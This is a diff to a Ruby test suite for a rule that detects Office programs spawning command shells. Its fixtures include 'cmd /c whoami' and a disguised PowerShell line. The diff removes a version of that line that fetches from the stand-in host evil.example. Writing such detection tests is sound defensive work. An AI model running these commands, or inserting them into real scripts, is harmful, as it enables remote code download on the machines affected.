@@ -19,12 +19,12 @@ RULE = YAML.load(<<~'YAML')
   tags: [attack.execution, attack.t1059]
 YAML
 
+PS = 'C:\Windows\System32\powershell.exe'
 TESTS = {
   "a macro" => [true, 'C:\Office\winword.exe', 'C:\Windows\System32\cmd.exe', "cmd /c whoami"],
-  "the report" => [false, 'C:\Office\EXCEL.EXE', 'C:\Windows\System32\powershell.exe',
-                   'powershell.exe -NoProfile -File C:\Templates\report.ps1'],
-  "in disguise" => [true, 'C:\Office\EXCEL.EXE', 'C:\Windows\System32\powershell.exe',
-                    'powershell.exe -c "iwr evil.example; C:\Templates\report.ps1"'],
+  "a report" => [false, 'C:\Office\EXCEL.EXE', PS, 'powershell.exe -NoProfile -File C:\Templates\report.ps1'],
+  "in disguise" => [true, 'C:\Office\EXCEL.EXE', PS, 'powershell.exe -c "calc; C:\Templates\report.ps1"'],
+  "no shell" => [false, 'C:\Office\EXCEL.EXE', 'C:\Windows\splwow64.exe', "splwow64"],
   "somebody" => [false, 'C:\Windows\explorer.exe', 'C:\Windows\System32\cmd.exe', "cmd"]
 }.freeze
 OPERATORS = { nil => :==, "endswith" => :end_with? }.freeze
